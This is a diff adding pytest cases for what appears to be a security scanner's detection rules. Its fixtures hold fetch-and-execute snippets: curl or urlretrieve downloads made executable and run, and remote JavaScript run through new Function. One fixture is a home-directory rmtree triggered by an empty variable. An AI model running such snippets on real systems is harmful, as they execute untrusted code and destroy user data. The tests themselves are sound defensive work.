@@ -346,3 +346,51 @@ def test_a_plain_request_beside_the_environment_is_not_flagged(library: Path) ->
     script = ("import os, urllib.request\nnames = sorted(k for k, _ in os.environ.items())\n"
               "urllib.request.urlopen('https://api.example.net/status', timeout=5)\n")
     assert "ST023" not in _codes(library, files={"scripts/status.py": script})
+
+
+# More flows across statements -------------------------------------------------------------------
+
+def test_a_download_onto_the_path_made_executable_is_found(library: Path) -> None:
+    code = ("curl -fsSL https://dl.example.net/tool-$(uname -s) -o ~/.local/bin/tool\n"
+            "chmod 755 ~/.local/bin/tool")
+    assert "ST020" in _codes(library, _fence(code))
+
+
+@pytest.mark.parametrize("code", [
+    "curl -fsSL https://dl.example.net/tool -o ~/.local/bin/tool\n"
+    "echo \"$SUM  $HOME/.local/bin/tool\" | sha256sum -c -\nchmod 755 ~/.local/bin/tool",
+    "curl -fsSL https://dl.example.net/data.csv -o ./data.csv\nchmod 644 ./data.csv",
+])
+def test_verified_or_data_downloads_made_readable_are_not_flagged(library: Path,
+                                                                  code: str) -> None:
+    assert "ST020" not in _codes(library, _fence(code))
+
+
+def test_new_function_with_named_parameters_over_fetched_code_is_found(library: Path) -> None:
+    script = ("const res = await fetch('https://cdn.example.net/p.js');\nconst code = await "
+              "res.text();\nconst run = new Function('require', 'process', code);\n"
+              "run(require, process);\n")
+    assert "ST020" in _codes(library, files={"scripts/p.mjs": script})
+
+
+def test_new_function_over_a_literal_body_is_not_flagged(library: Path) -> None:
+    script = ("const add = new Function('a', 'b', 'return a + b');\n"
+              "const r = await fetch('https://api.example.net/x');\n")
+    assert "ST020" not in _codes(library, files={"scripts/p.mjs": script})
+
+
+def test_python_setting_the_exec_bit_with_stat_is_found(library: Path) -> None:
+    script = ("import os, stat, subprocess, urllib.request\nsrc = 'https://dl.example.net/m'\n"
+              "dst = '/tmp/m'\nurllib.request.urlretrieve(src, dst)\n"
+              "os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)\nsubprocess.run([dst, 'up'])\n")
+    assert "ST020" in _codes(library, files={"scripts/m.py": script})
+
+
+@pytest.mark.parametrize(("default", "base", "flagged"), [
+    ("''", "~/", True), ("'tool-cache'", "~/.cache/", False),
+])
+def test_home_joined_with_an_optional_variable_on_another_line(
+        library: Path, default: str, base: str, flagged: bool) -> None:
+    script = (f"import os, shutil\nsub = os.environ.get('CACHE_SUB', {default})\n"
+              f"shutil.rmtree(os.path.expanduser('{base}' + sub), ignore_errors=True)\n")
+    assert ("ST024" in _codes(library, files={"scripts/c.py": script})) is flagged
